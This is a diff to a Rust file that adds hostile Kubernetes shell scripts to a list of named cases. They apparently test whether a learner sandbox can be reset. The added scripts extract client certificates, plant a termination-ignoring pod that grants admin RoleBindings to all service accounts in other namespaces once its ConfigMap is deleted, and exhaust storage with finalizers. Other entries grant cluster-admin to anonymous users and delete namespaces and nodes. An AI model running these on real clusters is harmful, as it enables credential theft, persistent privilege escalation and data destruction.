@@ -51,12 +51,49 @@ spec:
     securityContext: {privileged: true}
 END
 kubectl wait --for=condition=Ready pod/node -n default --timeout=20s; sleep 1; kubectl delete pod node -n default --grace-period=0 --force"#;
+    // It has the learner's keys, does not end when it is told to, and waits until its ConfigMap is gone: then it gives rights to the
+    // accounts of whoever comes next.
+    let lives_on = r#"kubectl config view --raw -o jsonpath='{.users[0].user.client-certificate-data}' | base64 -d > c.pem
+kubectl config view --raw -o jsonpath='{.users[0].user.client-key-data}' | base64 -d > k.pem
+cat > act.sh <<'END'
+c() { curl -sk --cert /d/c.pem --key /d/k.pem -o /d/out -w '%{http_code}' -H 'Content-Type: application/json' "$@"; }
+api=https://10.222.0.1:443
+while [ "$(c $api/api/v1/namespaces/default/configmaps/lives-on)" != 404 ]; do sleep 0.1; done
+while :; do
+  for n in production shop staging; do
+    c -X POST -d '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"RoleBinding","metadata":{"name":"x"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"admin"},"subjects":[{"kind":"Group","apiGroup":"rbac.authorization.k8s.io","name":"system:serviceaccounts"}]}' $api/apis/rbac.authorization.k8s.io/v1/namespaces/$n/rolebindings
+  done
+  sleep 0.1
+done
+END
+kubectl create configmap lives-on -n default --from-file=c.pem --from-file=k.pem --from-file=act.sh
+kubectl apply -f - <<'END'
+apiVersion: v1
+kind: Pod
+metadata: {name: lives-on, namespace: default}
+spec:
+  automountServiceAccountToken: false
+  terminationGracePeriodSeconds: 3600
+  containers:
+  - name: c
+    image: docker.io/curlimages/curl:latest
+    command: [sh, -c, "trap '' TERM INT; cp -L /cm/* /d/; sh /d/act.sh"]
+    volumeMounts: [{name: cm, mountPath: /cm}, {name: d, mountPath: /d}]
+  volumes: [{name: cm, configMap: {name: lives-on}}, {name: d, emptyDir: {}}]
+END
+kubectl wait --for=condition=Ready pod/lives-on -n default --timeout=20s"#;
+    let is_too_much_to_bring_back = r#"head -c 700000 /dev/zero | tr '\0' x > big
+for n in $(seq 6); do kubectl create configmap "big-$n" -n kube-system --from-file=big; done
+kubectl patch node --all --type=json -p '[{"op": "add", "path": "/metadata/finalizers", "value": ["example.org/stays"]}]'
+kubectl annotate node --all example.org/a=b"#;
     let many = r#"for n in $(seq 300); do printf 'apiVersion: v1\nkind: Secret\nmetadata: {name: s%s, namespace: default}\n---\n' "$n"; done | kubectl apply -f - >/dev/null"#;
     vec![
         ("refuses everything", refuses_all.to_owned()),
         ("leaves what never goes", never_goes.to_owned()),
         ("leaves a process on the node", on_the_node.to_owned()),
         ("makes many Secrets", many.to_owned()),
+        ("leaves a Pod that lives on", lives_on.to_owned()),
+        ("is too much to bring back", is_too_much_to_bring_back.to_owned()),
         ("gives everybody all rights", "kubectl create clusterrolebinding all --clusterrole=cluster-admin --group=system:authenticated --group=system:unauthenticated".to_owned()),
         ("deletes all Namespaces and roles", "kubectl delete namespaces --all --wait=false; kubectl delete clusterroles,clusterrolebindings --all --wait=false".to_owned()),
         ("ends the node", "kubectl delete node --all; kubectl delete pods --all -A --grace-period=0 --force".to_owned()),
